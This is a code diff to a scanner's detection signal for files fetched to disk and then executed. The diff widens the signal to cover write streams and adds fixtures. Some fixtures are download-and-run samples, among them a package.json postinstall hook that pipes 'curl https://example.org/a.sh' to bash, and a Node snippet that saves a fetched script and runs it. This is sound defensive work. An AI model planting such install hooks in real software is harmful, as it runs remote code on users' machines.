@@ -9,6 +9,7 @@ from hunkwise.signals.tables.attack import DROP_POINTS, FETCHES, PIPED, PIPED_ST
 from hunkwise.signals.tables.languages import ANY
 
 _WRITES = frozenset({"urlretrieve", "DownloadFile", "urllib.request.urlretrieve", "Start-BitsTransfer", "SaveToFile", "savetofile"})
+_STREAMS = frozenset({"createWriteStream", "writeFile", "writeFileSync", "File.open", "os.Create"})
 _SCRIPTS = frozenset({"shell", "powershell", "batch", "dockerfile", "workflow", "manifest", "json"})
 _STARTS = frozenset({
     "os.system", "os.popen", "subprocess.run", "subprocess.Popen", "subprocess.call", "Popen", "os.startfile", "startfile",
@@ -59,13 +60,15 @@ def _command_lines(unit: Unit, side: Side) -> Iterator[Sighting]:
 
 
 def _saved(side: Side) -> Iterator[Sighting]:
-    """A file fetched to disk and started later in the same function."""
+    """A file fetched to disk, or written to disk in code that fetches, and started later in the same function."""
+    fetches = any(ends(call.path, FETCHES) for call in side.whole.calls)
     for call in side.facts.calls:
-        if not ends(call.path, _WRITES) or len(call.args) < 2:
+        if not (ends(call.path, _WRITES) and len(call.args) > 1) and not (fetches and ends(call.path, _STREAMS)):
             continue
         saved = {name for given in call.args for name in given.names} | {given.literal for given in call.args if given.literal}
         for other in side.facts.calls:
-            if other.line >= call.line and other.function == call.function and ends(other.path, _STARTS) and other is not call:
+            started = ends(other.path, _STARTS) and other is not call
+            if other.line >= call.line and other.function == call.function and started:
                 told = {name for given in other.args for name in given.names} | {given.literal for given in other.args if given.literal}
                 if saved & told - {None, "os"}:
                     yield Sighting((call.line, other.line), {"sink": other.path, "source": call.path})
@@ -102,12 +105,24 @@ SIGNAL = Signal(
             line=6,
         ),
         Example(
+            "javascript",
+            'const https = require("https");\nconst fs = require("fs");\nconst { execSync } = require("child_process");\n\n'
+            "function run(answer) {\n  answer.pipe(fs.createWriteStream(target));\n  execSync(`node ${target}`);\n}\n\n"
+            'https.get("https://example.org/a.js", run);\n',
+            line=7,
+        ),
+        Example(
             "json", '{\n  "scripts": {\n    "postinstall": "curl https://example.org/a.sh | bash"\n  }\n}\n', path="package.json", line=3
         ),
     ),
     stays_quiet=(
         Example("python", 'import requests\ndata = requests.get("https://example.org/a.json").json()\n'),
         Example("shell", "#!/bin/sh\n# curl https://example.org/a.sh | sh\ncurl -o a.json https://example.org/a.json\n", path="a.sh"),
+        Example(
+            "javascript",
+            'const fs = require("fs");\nconst { execSync } = require("child_process");\n\nfunction build(target) {\n'
+            "  fs.writeFileSync(target, template());\n  execSync(`node ${target}`);\n}\n",
+        ),
         Example("python", 'HELP = "install with curl https://example.org/a.sh | sh"\n'),
     ),
 )
